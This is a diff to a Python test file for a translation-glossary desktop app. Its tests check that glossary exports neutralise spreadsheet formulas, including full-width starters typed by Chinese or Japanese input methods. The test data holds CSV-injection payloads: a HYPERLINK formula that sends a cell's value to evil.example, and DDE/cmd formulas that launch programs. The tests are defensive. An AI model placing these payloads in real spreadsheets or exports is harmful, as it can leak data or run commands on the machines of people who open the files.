@@ -26,7 +26,12 @@ from desktop_app.storage.glossary_store import GlossaryStore, default_glossary_p
 # What a spreadsheet would run: OWASP's examples and a few more shapes.
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "@SUM(1+9)*cmd|' /C calc'!A0",
             "+cmd|' /C notepad'!'B1'", "-2+3+cmd|' /C calc'!A0", "=1+1", "@import", "-", "+7 495 000 00 00",
-            "'=already quoted", "''-twice", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
+            "'=already quoted", "''-twice", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+            # full-width, as a Chinese or Japanese input method types them
+            "＝HYPERLINK(\"http://evil.example\")", "＋７ ４９５", "－2+3+cmd|' /C calc'!A0", "＠SUM(1+9)",
+            "'＝already quoted", "''－twice", "＝"]
+# Every first character a spreadsheet may run a cell from, written out here rather than taken from PressDesk.
+SPREADSHEET_STARTERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def tricky_entries() -> list[TermEntry]:
@@ -153,8 +158,8 @@ def test_exported_cells_cannot_run_as_formulas_and_read_back_unchanged(tmp_path:
         export_glossary(store, exported)
     written = cells(exported)
     assert written, "the export holds cells"
-    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert any(c.startswith("'") and c.lstrip("'")[:1] in "=+-@" for c in written)
+    assert not [c for c in written if c[:1] in SPREADSHEET_STARTERS]
+    assert any(c.startswith("'") and c.lstrip("'")[:1] in "=+-@＝＋－＠" for c in written)
     with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
         import_glossary(copy, exported)
         after = sorted(map(fields, copy.entries()), key=repr)
@@ -175,9 +180,42 @@ def test_a_foreign_csv_keeps_a_leading_apostrophe(tmp_path: Path) -> None:
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.text(alphabet=st.sampled_from("'=+-@#\t\rab Ж中|\""), max_size=12))
+@given(st.text(alphabet=st.sampled_from("'=+-@#\t\r＝＋－＠ab Ж中|\"＇"), max_size=12))
 def test_neutralising_a_cell_is_undone_exactly_and_leaves_nothing_a_spreadsheet_would_run(cell: str) -> None:
     for triggers in (FORMULA_TRIGGERS, (*FORMULA_TRIGGERS, "#")):
         written = neutralise_formula(cell, triggers)
-        assert written[:1] not in triggers
+        assert written[:1] not in triggers and written[:1] not in SPREADSHEET_STARTERS
         assert restore_formula(written, triggers) == cell
+
+
+@pytest.mark.parametrize("starter", SPREADSHEET_STARTERS)
+@pytest.mark.parametrize("apostrophes", range(3))
+def test_every_formula_starter_gets_one_apostrophe_more_and_loses_it_on_reading(starter: str,
+                                                                                apostrophes: int) -> None:
+    cell = "'" * apostrophes + starter + "SUM(A1)"
+    assert neutralise_formula(cell) == "'" + cell
+    assert restore_formula("'" + cell) == cell
+    plain = "'" * apostrophes + "中" + starter
+    assert neutralise_formula(plain) == plain and restore_formula(plain) == plain
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".txt"])
+def test_full_width_formulas_export_inert_and_read_back_unchanged(tmp_path: Path, suffix: str) -> None:
+    """A Chinese term typed with an input method can start with ＝ ＋ － ＠; the file a spreadsheet opens
+    carries each with an apostrophe before it, and importing that file gives back the very same terms."""
+    terms = {"zh": "＝外交部", "en": "＋Foreign Ministry", "ru": "－Министерство"}
+    with GlossaryStore.open(tmp_path / "g.sqlite", seed=False) as store:
+        store.add(make_entry(terms, {"zh": ("＠外交部",)}, note="＝1+1"))
+        exported = tmp_path / f"glossary{suffix}"
+        export_glossary(store, exported, source_lang="en", target_lang="zh")
+    written = (csv_cells if suffix == ".csv" else omegat_cells)(exported)
+    assert {"'＝外交部", "'＋Foreign Ministry", "'＠外交部"} <= set(written)
+    assert not [c for c in written if c[:1] in SPREADSHEET_STARTERS]
+    with GlossaryStore.open(tmp_path / "copy.sqlite", seed=False) as copy:
+        import_glossary(copy, exported)
+        (entry,) = copy.entries()
+    if suffix == ".csv":
+        assert (entry.forms, entry.variants["zh"], entry.note) == (terms, ("＠外交部",), "＝1+1")
+    else:
+        assert (entry.forms["en"], entry.forms["zh"], entry.variants["zh"]) == (terms["en"], terms["zh"],
+                                                                              ("＠外交部",))
